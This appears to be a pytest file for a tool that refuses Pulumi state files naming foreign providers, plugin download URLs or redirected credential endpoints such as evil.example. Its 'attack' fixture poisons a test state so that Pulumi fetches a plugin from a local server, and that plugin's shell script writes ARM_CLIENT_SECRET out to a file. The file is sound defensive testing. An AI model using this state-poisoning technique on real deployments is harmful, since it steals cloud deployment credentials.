"""What a state asks Pulumi to run: told, and refused before anything is run, whatever way it is said."""

import copy
import io
import json
import os
import subprocess
import sys
import tarfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from entrant import engine, plugins
from entrant.project import SOURCE
from entrant.setup import pins

AZUREAD = "urn:pulumi:dev::entrant::pulumi:providers:azuread::default_6_11_1"
APP = "urn:pulumi:dev::entrant::entrant:index:AppIdentity$azuread:index/application:Application::log-reader"
EVIL = "urn:pulumi:dev::entrant::pulumi:providers:evil::default"
MAY_RUN = {"azuread": {"6.11.1"}, "azure-native": {"3.29.0"}}
SECRET = {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", "ciphertext": "v1:x"}
INTERNAL = {"4dabf18193072939515e22adb298388d": "x"}


def provider(package: str, **inputs: Any) -> dict[str, Any]:
    """A provider in a state."""
    kind = f"pulumi:providers:{package}"
    return {
        "urn": f"urn:pulumi:dev::entrant::{kind}::default",
        "custom": True,
        "id": "1",
        "type": kind,
        "inputs": inputs,
    }


def state(*more: dict[str, Any]) -> dict[str, Any]:
    """A state as deployments leave it, with further resources."""
    default = {"__internal": {}, "version": "6.11.1"}
    ours: list[dict[str, Any]] = [
        {
            "urn": "urn:pulumi:dev::entrant::pulumi:pulumi:Stack::entrant-dev",
            "custom": False,
            "type": "pulumi:pulumi:Stack",
        },
        provider("pulumi"),
        provider("azuread", **default) | {"urn": AZUREAD, "outputs": {"version": "6.11.1"}},
        {
            "urn": APP,
            "custom": True,
            "id": "2",
            "type": "azuread:index/application:Application",
            "provider": f"{AZUREAD}::1",
        },
    ]
    return {"version": 3, "deployment": {"resources": [*ours, *more]}}


def complaints_of(deployment: dict[str, Any], **own: str) -> list[str]:
    """What is told of a state where the environment has these values for providers' settings."""
    return plugins.in_state(deployment, MAY_RUN, lambda package, name: [own[name]] if name in own else [])


def test_a_state_of_this_project_asks_for_nothing_foreign() -> None:
    tenant = "2e3f9b5a-0d51-4a6c-9a0e-7f2f3d1c8b40"
    real = {"environment": "public", "useMsi": "false", "tenantId": tenant, "clientId": SECRET}
    local = {"metadataHost": "localhost:8443"}
    assert complaints_of(state()) == []
    assert (
        complaints_of(state(provider("azuread", version="6.11.1", **real, **local)), metadataHost="localhost:8443")
        == []
    )
    assert plugins.in_state({"version": 3, "deployment": None}, MAY_RUN, lambda *_: []) == []


@pytest.mark.parametrize(
    ("resource", "words"),
    [
        (provider("evil", version="1.0.0"), "nothing in this project uses the package 'evil'"),
        (provider("azuread", version="6.11.2"), "asks for version 6.11.2 of azuread, and this project uses 6.11.1"),
        (provider("azuread"), "asks for version None of azuread"),
        (provider("azuread", version=SECRET), "asks for version that is encrypted of azuread"),
        (provider("azuread", version="6.11.1", pluginDownloadURL="http://x"), "it says pluginDownloadURL"),
        (provider("azuread", version="6.11.1", pluginChecksums={}), "it says pluginChecksums"),
        (provider("azuread", version="6.11.1", __internal={"pluginDownloadURL": "http://x"}), "it says pluginDownloadURL"),
        (provider("azuread", version="6.11.1", __internal={"pluginChecksums": {}}), "it says pluginChecksums"),
        (provider("azuread", version="6.11.1", __internal={"name": "evil"}), "it says name"),
        (provider("azuread", version="6.11.1", __internal={"parameterization": "e30="}), "it says parameterization"),
        (provider("azuread", version="6.11.1", __internal=INTERNAL), "decides what program is run"),
        (provider("azuread", version="6.11.1", __internal="x"), "it says __internal"),
        (provider("azuread", version="6.11.1", metadataHost="evil.example"), "its setting metadataHost"),
        (provider("azuread", version="6.11.1", metadataHost=SECRET), "its setting metadataHost"),
        (provider("azuread", version="6.11.1", oidcRequestUrl="https://evil.example"), "its setting oidcRequestUrl"),
        (provider("azure-native", version="3.29.0", msiEndpoint="http://evil.example"), "its setting msiEndpoint"),
        (provider("pulumi", pluginDownloadURL="http://x"), "Pulumi's own provider takes no settings"),
        (provider("azuread", version="6.11.1") | {"outputs": {"pluginDownloadURL": "http://x"}}, "it says pluginDownloadURL"),
        (
            {"urn": APP, "custom": True, "type": "azuread:index/application:Application", "provider": f"{EVIL}::1"},
            "not azuread's",
        ),
        (provider("evil") | {"type": "pulumi:providers:azuread"}, "type is pulumi:providers:azuread, which its URN does not say"),
        (provider("azuread", version="6.11.1") | {"urn": "odd"}, "which its URN does not say"),
        ({"urn": "urn:pulumi:dev::e::evil:index:Thing::x", "custom": True, "type": "evil:index:Thing"}, "package 'evil'"),
        (
            {"urn": "urn:pulumi:dev::e::evil:index:Remote::x", "custom": False, "type": "evil:index:Remote", "provider": "x::y"},
            "package 'evil'",
        ),
    ],
)  # fmt: skip
def test_whatever_would_run_a_foreign_program_or_send_credentials_elsewhere_is_told(
    resource: dict[str, Any], words: str
) -> None:
    complaints = complaints_of(state(resource))
    assert complaints and words in " ".join(complaints), complaints
    pending = state()
    pending["deployment"]["pending_operations"] = [{"type": "creating", "resource": resource}]
    assert complaints_of(pending) == complaints


def test_nothing_is_changed_by_looking() -> None:
    seen = state(provider("evil", version="1.0.0"))
    before = copy.deepcopy(seen)
    complaints_of(seen)
    assert seen == before


def test_a_version_or_package_that_the_project_pins_may_run(tmp_path: Path) -> None:
    archive = "pulumi-resource-random-v4.19.1-linux-amd64.tar.gz"
    older = "pulumi-resource-azuread-v6.8.0-linux-amd64.tar.gz"
    (tmp_path / pins.PLUGINS).write_text(f"# before the upgrade\n{'a' * 64}  {archive}\n{'b' * 64} *{older}\n")
    may_run = plugins.allowed(tmp_path)
    assert may_run["random"] == {"4.19.1"}
    assert may_run["azuread"] > {"6.8.0"} and len(may_run["azuread"]) == 2
    assert plugins.in_state(state(provider("random", version="4.19.1")), may_run, lambda *_: []) == []
    (tmp_path / pins.PLUGINS).write_text("cafe  x.tar.gz\n")
    with pytest.raises(ValueError, match=r"pulumi-plugins\.sha256:1: not a SHA-256"):
        plugins.allowed(tmp_path)


@pytest.mark.parametrize(
    ("section", "count"),
    [
        ("plugins: {providers: [{name: azuread, path: ./bin}]}", 1),
        ("packages: {azuread: https://evil.example/azuread@6.11.1}", 1),
        ("packages: {azuread: github.com/evil/azuread@6.11.1}", 1),
        ("packages: {azuread: azuread@6.11.2}", 1),
        ("packages: {evil: {source: terraform-provider, version: 1.0.0}}", 1),
        ("packages: [evil]", 1),
        ("packages: {azuread: azuread@6.11.1}", 0),
        ("plugins: {}", 0),
    ],
)
def test_plugins_that_the_project_file_names_are_told(tmp_path: Path, section: str, count: int) -> None:
    (tmp_path / "Pulumi.yaml").write_text(f"name: entrant\nruntime: python\n{section}\n")
    assert len(plugins.in_project(tmp_path, MAY_RUN)) == count


# ------------------------------------------------------------------------------------------------------------ the attack

PROGRAM = """\
import pulumi

pulumi.export("contract", 1)
pulumi.export("tenant_id", "2e3f9b5a-0d51-4a6c-9a0e-7f2f3d1c8b40")
pulumi.export("cloud", "public")
pulumi.export("identities", {})
"""


class Attack:
    """A stack of an empty environment, the state of which somebody poisons, and a server with the plugin that it names."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.stolen = folder / "stolen"
        self.asked: list[str] = []
        attack = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attack.asked.append(self.path)
                body = attack.archive()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                """Nobody reads it."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        (folder / "Pulumi.yaml").write_text("name: entrant\nruntime: python\n")
        (folder / "__main__.py").write_text(PROGRAM)
        (folder / "config").mkdir()
        (folder / "config" / "dev.yaml").write_text("apps: {log-reader: {display_name: Log reader}}\n")
        (folder / "state").mkdir()
        foreign = ("ARM_", "AWS_", "AZURE_", "PULUMI_", "PG", "GITHUB_", "CI_", "GITLAB_", "TF_")
        kept = {name: value for name, value in os.environ.items() if not name.startswith(foreign)}
        self.env = engine.environment(kept) | {
            "PULUMI_BACKEND_URL": (folder / "state").as_uri(),
            "PULUMI_HOME": str(folder / "home"),
            "PULUMI_CONFIG_PASSPHRASE": "a passphrase",
            "PULUMI_SKIP_UPDATE_CHECK": "true",
            "PIP_DISABLE_PIP_VERSION_CHECK": "1",
            "PYTHONPATH": str(SOURCE),
            "ARM_CLIENT_SECRET": "what only the identity that deploys has",
        }
        for command in (["stack", "init", "dev"], ["up", "--yes", "--skip-preview", "-s", "dev"]):
            done = self.pulumi(*command)
            assert done.returncode == 0, done.stderr + done.stdout
        self.poison()

    def archive(self) -> bytes:
        """The plugin: it writes down what it finds in its environment."""
        script = f'#!/bin/sh\nprintf %s "$ARM_CLIENT_SECRET" > {self.stolen}\nexit 1\n'.encode()
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w:gz") as archive:
            entry = tarfile.TarInfo("pulumi-resource-evil")
            entry.size, entry.mode = len(script), 0o755
            archive.addfile(entry, io.BytesIO(script))
        return packed.getvalue()

    def poison(self) -> None:
        """What whoever may write to the state can do."""
        (file,) = (self.folder / "state").glob(".pulumi/stacks/*/dev.json")
        checkpoint = json.loads(file.read_text())
        where = f"http://127.0.0.1:{self.server.server_port}"
        checkpoint["checkpoint"]["latest"]["resources"] += [
            provider("evil", version="1.0.0", __internal={"pluginDownloadURL": where}),
            {
                "urn": "urn:pulumi:dev::entrant::evil:index:Thing::x",
                "custom": True,
                "id": "x",
                "type": "evil:index:Thing",
                "provider": f"{EVIL}::1",
            },
        ]
        file.write_text(json.dumps(checkpoint))
        file.with_name("dev.json.attrs").unlink(missing_ok=True)

    def pulumi(self, *arguments: str, **more: str) -> "subprocess.CompletedProcess[str]":
        """Pulumi itself."""
        return self.run(str(engine.find()), "--non-interactive", "--color=never", *arguments, **more)

    def entrant(self, *arguments: str) -> "subprocess.CompletedProcess[str]":
        """The command."""
        return self.run(sys.executable, "-m", "entrant", *arguments)

    def run(self, *command: str, **more: str) -> "subprocess.CompletedProcess[str]":
        """Run a program in the project."""
        return subprocess.run(
            command, cwd=self.folder, env=self.env | more, capture_output=True, text=True, stdin=subprocess.DEVNULL
        )


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attack]:
    """A poisoned stack."""
    made = Attack(tmp_path_factory.mktemp("attack"))
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.mark.parametrize(
    "command",
    [
        ["review", "-s", "dev"],
        ["review", "-s", "dev", "--no-refresh"],
        ["drift", "-s", "dev"],
        ["hold", "-s", "dev", "--", "pulumi", "up", "--yes", "--skip-preview", "-s", "dev"],
    ],
    ids=lambda command: " ".join(command[:4]),
)
def test_a_poisoned_state_is_refused_before_anything_is_run(attack: Attack, command: list[str]) -> None:
    done = attack.entrant(*command)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "asks Pulumi to run what is not this project's, so nothing was run" in done.stderr
    assert "nothing in this project uses the package 'evil'" in done.stderr
    assert "put the last good version of the state back" in done.stderr
    assert attack.asked == []


def test_what_reads_a_poisoned_state_only_runs_nothing(attack: Attack) -> None:
    assert attack.entrant("expiry", "-s", "dev").returncode == 0
    assert attack.asked == []


def test_pulumi_fetches_no_plugin_where_the_pipelines_forbid_it(attack: Attack) -> None:
    done = attack.pulumi("refresh", "--preview-only", "-s", "dev", PULUMI_DISABLE_AUTOMATIC_PLUGIN_ACQUISITION="true")
    assert done.returncode != 0
    assert attack.asked == []


def test_pulumi_by_itself_runs_it(attack: Attack) -> None:
    """Else the tests above would hold for nothing."""
    attack.pulumi("refresh", "--preview-only", "-s", "dev")
    assert attack.asked
    assert attack.stolen.read_text() == attack.env["ARM_CLIENT_SECRET"]
    attack.stolen.unlink()
    attack.asked.clear()
